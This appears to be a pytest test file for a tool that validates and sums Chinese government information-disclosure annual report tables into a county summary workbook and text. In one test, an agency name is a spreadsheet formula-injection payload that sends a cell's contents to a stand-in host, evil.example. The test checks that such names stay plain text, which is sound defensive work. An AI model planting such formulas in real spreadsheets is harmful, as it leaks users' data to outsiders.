"""The county summary: cell-by-cell sums over the included agencies, the workbook and the text."""

from __future__ import annotations

import io
from decimal import Decimal

import openpyxl
import pytest

from nianbao.validators.identities import INCOMPLETE, INCONSISTENT, identity_breaks
from nianbao.reports.summary import KEY_FIGURES, AgencyEntry, summarize, summary_text, summary_xlsx
from nianbao.reports.workbook import AGENCY_HEADERS, AGENCY_SHEET, ERROR_FILL, GRID_TOP, PARTIAL_FILL, SHEET_NAMES
from nianbao.validators.engine import check_bytes
from nianbao.validators.template import TABLE2, TABLE3, TABLE4, TABLES

FEE = "本年收费金额（单位：万元）"


def _cells():
    for spec in TABLES:
        for row in spec.rows:
            for column in row.columns:
                yield spec.key, row.label, column


def _expected(summary, entries: list[AgencyEntry], table: str, row: str, column: str):
    """The sum of the numbers the entries have in one cell (None when none has one); a blank
    cell the identities gave a value counts with that value."""
    derived = {line.entry.name: line for line in summary.lines if line.derived}
    values = []
    for entry in entries:
        value = ((entry.tables or {}).get(table) or {}).get(row, {}).get(column)
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            values.append(Decimal(str(value)))
        elif entry.name in derived and (table, row, column) in derived[entry.name].derived:
            values.append(derived[entry.name].values[(table, row, column)])
    return sum(values) if values else None


def _assert_sums(summary, entries: list[AgencyEntry]) -> None:
    assert not summary.breaks
    for table, row, column in _cells():
        expected = _expected(summary, entries, table, row, column)
        got = summary.value(table, row, column)
        if expected is None:
            assert got is None, (table, row, column)
        else:
            assert Decimal(str(got)) == expected, (table, row, column, got, expected)


# ---------------------------------------------------------------- the real samples


@pytest.fixture(scope="module")
def sample_entries(sample_texts: dict[str, str]) -> list[AgencyEntry]:
    entries = []
    for name, text in sample_texts.items():
        result = check_bytes(text.encode("utf-8"), f"{name}.txt")
        assert result.report is not None, name
        entries.append(
            AgencyEntry(
                name=result.report.agency or name,
                state="passing" if result.passed else "errors",
                tables=result.report.tables_json(),
                level="township",
                region="示例县",
                error_count=result.errors,
                warning_count=result.warnings,
                file_name=f"{name}.txt",
            )
        )
    return entries


def test_samples_have_both_states(sample_entries):
    states = {e.state for e in sample_entries}
    assert states == {"passing", "errors"}  # real mistakes in some, none in others


def test_samples_errors_excluded_by_default(sample_entries):
    summary = summarize(sample_entries, year=2024)
    passing = [e for e in sample_entries if e.state == "passing"]
    assert [e.name for e in summary.included] == [e.name for e in passing]
    assert {e.name: reason for e, reason in summary.excluded} == {e.name: "有错误" for e in sample_entries if e.state == "errors"}
    _assert_sums(summary, passing)


def test_samples_with_errors_included_when_asked(sample_entries):
    summary = summarize(sample_entries, include_errors=True, year=2024)
    assert len(summary.included) == len(sample_entries) and not summary.excluded
    _assert_sums(summary, sample_entries)
    # a blank cell is missing, not zero: 003 leaves the fee blank, and the summary notes it
    blanks = [line for line in summary.with_missing if (TABLE2.key, "行政事业性收费", FEE) in line.missing]
    assert blanks
    assert summary.contributors[TABLE2.key]["行政事业性收费"][FEE] == len(sample_entries) - len(blanks)


# ---------------------------------------------------------------- hand-made tables


def _tables(new: int, fee, extra: dict | None = None) -> dict:
    """Full tables (all cells 0) with a few cells set: ``new`` requests from 自然人, all 予以公开."""
    tables = {spec.key: {row.label: {c: 0 for c in row.columns} for row in spec.rows} for spec in TABLES}
    for label in ("本年新收政府信息公开申请数量", "予以公开", "总计"):
        tables[TABLE3.key][label]["自然人"] = tables[TABLE3.key][label]["总计"] = new
    tables[TABLE2.key]["行政事业性收费"][FEE] = fee
    for (table, row, column), value in (extra or {}).items():
        tables[table][row][column] = value
    return tables


@pytest.fixture
def hand_entries() -> list[AgencyEntry]:
    return [
        AgencyEntry("甲镇人民政府", "passing", _tables(3, 0.1), level="township", region="北片", file_name="甲.docx"),
        AgencyEntry(
            "乙乡人民政府",
            "passing",
            _tables(4, 0.2, {(TABLE2.key, "行政许可", "本年处理决定数量"): None, (TABLE2.key, "规章", "现行有效件数"): "无"}),
            level="township",
        ),
        AgencyEntry(
            "丙局", "errors", _tables(100, 5, {(TABLE2.key, "规章", "本年制发件数"): 2}), level="county_department", error_count=3
        ),
        AgencyEntry("丁局", "not_submitted", level="county_department"),
        AgencyEntry("戊办", "unreadable", file_name="戊.pdf"),
        AgencyEntry("己委", "passing", None),  # passing, but no tables were kept
        AgencyEntry("庚站", "passing", {TABLE2.key: {"规章": {"本年制发件数": True}}, "其他表": {"x": {"y": 9}}}),
    ]


def test_hand_made_sums_and_exclusions(hand_entries):
    summary = summarize(hand_entries, year=2024)
    assert [e.name for e in summary.included] == ["甲镇人民政府", "乙乡人民政府"]
    reasons = {e.name: r for e, r in summary.excluded}
    assert reasons == {"丙局": "有错误", "丁局": "未报送", "戊办": "无法读取", "己委": "未读取到统计表", "庚站": INCOMPLETE}
    assert summary.value(TABLE3.key, "本年新收政府信息公开申请数量", "总计") == 7
    assert summary.value(TABLE2.key, "行政事业性收费", FEE) == 0.3  # decimal sum: not 0.30000000000000004
    assert summary.value(TABLE2.key, "规章", "本年制发件数") == 0  # 庚站 (a True, no table 3) is left out
    assert summary.value(TABLE2.key, "行政许可", "本年处理决定数量") == 0  # 乙's None skipped, 甲's 0 kept
    assert summary.contributors[TABLE2.key]["行政许可"]["本年处理决定数量"] == 1
    assert summary.contributors[TABLE3.key]["予以公开"]["自然人"] == 2
    missing = {line.entry.name: line.missing for line in summary.with_missing}
    assert set(missing) == {"乙乡人民政府"}
    assert set(missing["乙乡人民政府"]) == {(TABLE2.key, "行政许可", "本年处理决定数量"), (TABLE2.key, "规章", "现行有效件数")}
    _assert_sums(summary, summary.included)


def test_hand_made_include_errors(hand_entries):
    summary = summarize(hand_entries, include_errors=True)
    assert "丙局" in [e.name for e in summary.included]
    assert summary.value(TABLE3.key, "本年新收政府信息公开申请数量", "总计") == 107
    assert summary.value(TABLE2.key, "规章", "本年制发件数") == 2
    assert summary.value(TABLE2.key, "行政事业性收费", FEE) == 5.3
    _assert_sums(summary, summary.included)


def test_nothing_to_sum():
    summary = summarize([AgencyEntry("丁局", "not_submitted")])
    assert not summary.included
    assert all(summary.value(*key) is None for key in _cells())
    text = summary_text(summary)
    assert "纳入汇总 0 个机关" in text and "没有可以汇总的报告" in text
    workbook = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summary, 2024)))
    assert workbook.sheetnames == [*SHEET_NAMES.values(), AGENCY_SHEET]


# ---------------------------------------------------------------- the workbook


def _anchor(ws, row: int, col: int) -> tuple[int, int]:
    """The top-left cell of the merged range holding (row, col), or the cell itself."""
    for merged in ws.merged_cells.ranges:
        if merged.min_row <= row <= merged.max_row and merged.min_col <= col <= merged.max_col:
            return merged.min_row, merged.min_col
    return row, col


def _text(ws, row: int, col: int) -> str:
    value = ws.cell(*_anchor(ws, row, col)).value
    return "" if value is None else str(value)


def _span(ws, text: str, rows: range) -> tuple[int, int]:
    """(rows, columns) spanned by the cell with this text in the given rows."""
    for r in rows:
        for c in range(1, ws.max_column + 1):
            if ws.cell(r, c).value == text:
                for merged in ws.merged_cells.ranges:
                    if (merged.min_row, merged.min_col) == (r, c):
                        return merged.max_row - r + 1, merged.max_col - c + 1
                return 1, 1
    raise AssertionError(f"{text} not found")


def _header_columns(ws, header_rows: range) -> dict[int, set[str]]:
    return {c: {_text(ws, r, c) for r in header_rows} for c in range(1, ws.max_column + 1)}


def _column(headers: dict[int, set[str]], *labels: str) -> int:
    found = [c for c, texts in headers.items() if set(labels) <= texts]
    assert len(found) == 1, (labels, found)
    return found[0]


def _row(ws, printed: str, label_cols: int) -> int:
    found = [r for r in range(GRID_TOP, ws.max_row + 1) if any(_text(ws, r, c) == printed for c in range(1, label_cols + 1))]
    assert len(found) == 1, (printed, found)
    return found[0]


def _table2_position(ws, row_label: str, column: str) -> tuple[int, int]:
    r = _row(ws, TABLE2.row(row_label).printed, 1)
    header = max(h for h in range(GRID_TOP, r) if ws.cell(h, 1).value == "信息内容")
    return r, next(c for c in range(2, 5) if _text(ws, header, c) == column and _anchor(ws, header, c) == (header, c))


@pytest.fixture
def workbook(hand_entries):
    summary = summarize(hand_entries, year=2024)
    return summary, openpyxl.load_workbook(io.BytesIO(summary_xlsx(summary, 2024)))


def test_workbook_sheets(workbook):
    _, wb = workbook
    assert wb.sheetnames == ["表二 主动公开", "表三 依申请公开", "表四 复议诉讼", AGENCY_SHEET]
    assert "2024" in wb["表三 依申请公开"].cell(1, 1).value


def test_workbook_merged_headers(workbook):
    _, wb = workbook
    t2, t3, t4 = (wb[SHEET_NAMES[spec.key]] for spec in TABLES)
    header3 = range(GRID_TOP, GRID_TOP + 3)
    assert _span(t3, "申请人情况", header3) == (1, 7)
    assert _span(t3, "自然人", header3) == (2, 1)
    assert _span(t3, "法人或其他组织", header3) == (1, 5)
    assert _span(t3, "总计", header3) == (2, 1)
    assert _span(t3, TABLE3.headers[0], header3) == (3, 3)  # the balance note
    data3 = range(GRID_TOP + 3, t3.max_row + 1)
    assert _span(t3, "三、本年度办理结果", data3) == (22, 1)
    assert _span(t3, "（三）不予公开", data3) == (8, 1)
    assert _span(t3, "（六）其他处理", data3) == (3, 1)
    assert _span(t3, "一、本年新收政府信息公开申请数量", data3) == (1, 3)
    assert _span(t3, "（七）总计", data3) == (1, 2)
    header4 = range(GRID_TOP, GRID_TOP + 3)
    assert _span(t4, "行政复议", header4) == (1, 5)
    assert _span(t4, "行政诉讼", header4) == (1, 10)
    assert _span(t4, "未经复议直接起诉", header4) == (1, 5)
    assert _span(t4, "复议后起诉", header4) == (1, 5)
    assert _span(t4, "结果维持", header4) == (2, 1)  # under 行政复议, down to the outcome row
    all2 = range(GRID_TOP, t2.max_row + 1)
    assert _span(t2, "第二十条第（一）项", all2) == (1, 4)
    assert _span(t2, "本年处理决定数量", all2) == (1, 3)


def test_workbook_table3_values_at_their_labels(workbook):
    summary, wb = workbook
    ws = wb[SHEET_NAMES[TABLE3.key]]
    headers = _header_columns(ws, range(GRID_TOP, GRID_TOP + 3))
    for row in TABLE3.rows:
        r = _row(ws, row.printed, 3)
        for column in row.columns:
            cell = ws.cell(r, _column(headers, column))
            expected = summary.value(TABLE3.key, row.label, column)
            assert cell.value == expected and isinstance(cell.value, int), (row.label, column)
    assert ws.cell(_row(ws, "一、本年新收政府信息公开申请数量", 3), _column(headers, "总计")).value == 7


def test_workbook_table4_values_at_their_labels(workbook):
    summary, wb = workbook
    ws = wb[SHEET_NAMES[TABLE4.key]]
    headers = _header_columns(ws, range(GRID_TOP, GRID_TOP + 3))
    for row in TABLE4.rows:
        for column in row.columns:
            cell = ws.cell(GRID_TOP + 3, _column(headers, row.label, column))
            assert cell.value == summary.value(TABLE4.key, row.label, column), (row.label, column)
            assert isinstance(cell.value, int)


def test_workbook_table2_values_at_their_labels(workbook):
    summary, wb = workbook
    ws = wb[SHEET_NAMES[TABLE2.key]]
    for row in TABLE2.rows:
        for column in row.columns:
            value = ws.cell(*_table2_position(ws, row.label, column)).value
            assert value == summary.value(TABLE2.key, row.label, column)
            assert isinstance(value, (int, float)) and not isinstance(value, bool)
    assert ws.cell(*_table2_position(ws, "行政事业性收费", FEE)).value == pytest.approx(0.3)
    partial = ws.cell(*_table2_position(ws, "行政许可", "本年处理决定数量"))
    assert partial.fill.fgColor.rgb.endswith(PARTIAL_FILL.fgColor.rgb[-6:])  # 乙's blank: a partial sum


def test_workbook_agency_sheet(workbook, hand_entries):
    summary, wb = workbook
    ws = wb[AGENCY_SHEET]
    headers = {ws.cell(GRID_TOP, c).value: c for c in range(1, ws.max_column + 1)}
    assert list(headers)[: len(AGENCY_HEADERS)] == list(AGENCY_HEADERS)
    rows = {ws.cell(r, headers["机关名称"]).value: r for r in range(GRID_TOP + 1, ws.max_row + 1)}
    assert {e.name for e in hand_entries} <= set(rows)
    bad = rows["丙局"]
    assert ws.cell(bad, headers["状态"]).value == "有错误"
    assert ws.cell(bad, headers["错误数"]).value == 3
    assert ws.cell(bad, headers["计入汇总"]).value == "否"
    assert ws.cell(bad, headers["机关名称"]).fill.fgColor.rgb.endswith(ERROR_FILL.fgColor.rgb[-6:])
    good = rows["甲镇人民政府"]
    assert ws.cell(good, headers["状态"]).value == "通过"
    assert ws.cell(good, headers["计入汇总"]).value == "是"
    assert ws.cell(good, headers["层级"]).value == "乡镇（街道）"
    assert ws.cell(good, headers["机关名称"]).fill.fgColor.rgb != ERROR_FILL.fgColor.rgb
    assert ws.cell(good, headers["新收申请"]).value == 3
    assert ws.cell(bad, headers["新收申请"]).value == 100  # its own figures are shown, just not summed
    assert ws.cell(rows["丁局"], headers["计入汇总"]).value == "否"
    assert "未报送" in ws.cell(rows["丁局"], headers["说明"]).value
    totals = rows["合计（计入汇总的机关）"]
    for header, table, row, column in KEY_FIGURES:
        assert ws.cell(totals, headers[header]).value == summary.value(table, row, column)


def test_workbook_from_samples(sample_entries):
    summary = summarize(sample_entries, include_errors=True, year=2024)
    wb = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summary)))
    ws = wb[SHEET_NAMES[TABLE3.key]]
    headers = _header_columns(ws, range(GRID_TOP, GRID_TOP + 3))
    for row in TABLE3.rows:
        r = _row(ws, row.printed, 3)
        for column in row.columns:
            assert ws.cell(r, _column(headers, column)).value == summary.value(TABLE3.key, row.label, column)


# ---------------------------------------------------------------- the chat text


def test_summary_text_counts_and_totals(hand_entries):
    summary = summarize(hand_entries, year=2024)
    text = summary_text(summary)
    assert text.startswith("2024年度")
    assert "纳入汇总 2 个机关" in text
    assert "未纳入 5 个" in text
    assert f"未纳入（{INCOMPLETE}）：庚站" in text
    assert "有错误 1 个" in text and "未报送 1 个" in text and "无法读取 1 个" in text
    assert "丙局" in text  # the excluded agencies are named
    assert "本年新收申请 7 件" in text
    assert "行政事业性收费 0.3 万元" in text
    assert "行政复议 0 件" in text
    assert "1 个机关的统计表有空白" in text


def test_summary_text_with_errors_included(hand_entries):
    text = summary_text(summarize(hand_entries, include_errors=True))
    assert "纳入汇总 3 个机关（含有错误的 1 个）" in text
    assert "本年新收申请 107 件" in text
    assert "丙局" not in text


def test_summary_text_from_samples(sample_entries):
    summary = summarize(sample_entries, year=2024)
    text = summary_text(summary)
    n_errors = sum(1 for e in sample_entries if e.state == "errors")
    assert f"纳入汇总 {len(sample_entries) - n_errors} 个机关" in text
    assert f"有错误 {n_errors} 个" in text


def test_names_that_look_like_formulas_stay_text():
    hostile = '=HYPERLINK("http://evil.example/?x="&B4,"点击查看")'
    entries = [AgencyEntry(hostile, file_name=hostile + ".docx", tables=_tables(1, 0))]
    book = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summarize(entries), 2024)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


# ---------------------------------------------------------------- identities of the summed tables


def _blank_total_row(new: int) -> dict:
    """Consistent tables whose （七）总计 row was left blank (the bug report's agency)."""
    tables = _tables(new, 0)
    tables[TABLE3.key]["总计"] = {column: None for column in tables[TABLE3.key]["总计"]}
    return tables


def test_summed_tables_keep_their_identities_when_a_total_row_is_blank():
    entries = [AgencyEntry("甲镇人民政府", "passing", _tables(9, 0)), AgencyEntry("乙乡人民政府", "passing", _blank_total_row(4))]
    summary = summarize(entries, year=2024)
    assert summary.value(TABLE3.key, "本年新收政府信息公开申请数量", "总计") == 13
    assert summary.value(TABLE3.key, "总计", "总计") == 13  # 乙's blank row is what its identities give: 4
    assert identity_breaks(summary.tables, lambda v: None if v is None else Decimal(v)) == []
    assert not summary.breaks
    text = summary_text(summary)
    assert "乙乡人民政府的统计表有空白单元格，已按勾稽关系推算后计入合计" in text
    wb = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summary, 2024)))
    ws = wb[AGENCY_SHEET]
    notes = [ws.cell(r, AGENCY_HEADERS.index("说明") + 1).value for r in range(GRID_TOP + 1, GRID_TOP + 3)]
    assert notes[1] == "7 个空白单元格按勾稽关系推算后计入"
    assert "按勾稽关系推算" in wb[SHEET_NAMES[TABLE3.key]].cell(2, 1).value


def test_an_agency_whose_tables_break_an_identity_is_left_out_and_named():
    broken = _tables(5, 0, {(TABLE3.key, "总计", "总计"): 0})  # 新收 5, （七）总计 0
    entries = [AgencyEntry("甲镇人民政府", "passing", _tables(9, 0)), AgencyEntry("丙局", "errors", broken, error_count=1)]
    summary = summarize(entries, include_errors=True, year=2024)
    assert [e.name for e in summary.included] == ["甲镇人民政府"]
    assert summary.excluded == [(entries[1], INCONSISTENT)]
    assert summary.value(TABLE3.key, "本年新收政府信息公开申请数量", "总计") == 9
    assert f"未纳入（{INCONSISTENT}）：丙局" in summary_text(summary)
    ws = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summary, 2024)))[AGENCY_SHEET]
    assert ws.cell(GRID_TOP + 2, AGENCY_HEADERS.index("说明") + 1).value == f"未计入：{INCONSISTENT}"


def test_an_agency_with_blanks_the_identities_cannot_fill_is_left_out():
    tables = _tables(2, 0, {(TABLE4.key, "行政复议", "结果维持"): None, (TABLE4.key, "行政复议", "总计"): None})
    summary = summarize([AgencyEntry("丁镇人民政府", "passing", tables)], year=2024)
    assert summary.excluded == [(summary.lines[0].entry, INCOMPLETE)]
    assert "没有可以汇总的报告" in summary_text(summary)


def test_the_identity_check_names_what_a_summed_table_breaks():
    tables = _tables(9, 0, {(TABLE3.key, "总计", "总计"): 0, (TABLE4.key, "复议后起诉", "总计"): 2})
    breaks = identity_breaks(tables, lambda v: None if v is None else Decimal(v))
    assert "表三 「总计」列" in breaks and "表三 「（七）总计」行" in breaks and "表四 「复议后起诉」" in breaks
    assert identity_breaks(_tables(9, 0), lambda v: Decimal(v)) == []


def test_every_sheet_prints_landscape_fitted_to_width_with_repeated_headers(hand_entries):
    wb = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summarize(hand_entries, year=2024), 2024)))
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1, ws.title
        assert ws.page_setup.fitToHeight == 0, ws.title  # as many pages down as needed
        assert ws.print_title_rows and ws.print_title_rows.startswith(f"${GRID_TOP}:"), ws.title
    assert wb[SHEET_NAMES[TABLE3.key]].print_title_rows == f"${GRID_TOP}:${GRID_TOP + 2}"  # three header rows
